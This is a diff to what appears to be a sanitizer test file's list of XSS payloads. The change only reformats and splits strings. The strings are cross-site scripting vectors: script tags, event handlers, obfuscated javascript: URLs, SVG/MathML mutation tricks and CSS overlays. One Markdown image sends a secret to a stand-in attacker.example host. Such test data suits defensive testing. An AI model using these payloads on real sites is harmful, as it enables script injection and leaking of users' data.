@@ -50,7 +50,7 @@ OWN_PAYLOADS = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)> <body onload=alert(1)> <details open ontoggle=alert(1)>",
     '<a href="#" onclick="alert(1)">click</a> <div onmouseover="alert(1)">hover</div>',
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe> <object data=x></object>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe> <object data=x></object>',
     '<input autofocus onfocus=alert(1)> <video><source onerror="alert(1)"></video>',
     # javascript: and data: URLs, in Markdown and in HTML
     "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
@@ -62,13 +62,17 @@ OWN_PAYLOADS = [
     "![leak](https://attacker.example/collect?c=secret) ![x](http://attacker.example/a.png)",
     "[![img](javascript:alert(1))](javascript:alert(2))",
     # SVG and MathML
-    '<svg onload=alert(1)><script>alert(2)</script></svg> <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "<svg onload=alert(1)><script>alert(2)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-    '<math href="javascript:alert(1)">x</math> <svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
+    "</style></mglyph></table></mtext></math>",
+    '<math href="javascript:alert(1)">x</math>',
+    "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
     # CSS
-    "<style>* { display: none }</style> <div style=\"background:url(javascript:alert(1))\">s</div>",
-    '<link rel=stylesheet href="https://attacker.example/x.css"> <p style="position:fixed;inset:0">cover</p>',
+    '<style>* { display: none }</style> <div style="background:url(javascript:alert(1))">s</div>',
+    '<link rel=stylesheet href="https://attacker.example/x.css">',
+    '<p style="position:fixed;inset:0">cover</p>',
     # broken and nested markup
     "<img src=x onerror=alert(1)//",
     "<<script>script>alert(1)<</script>/script>",
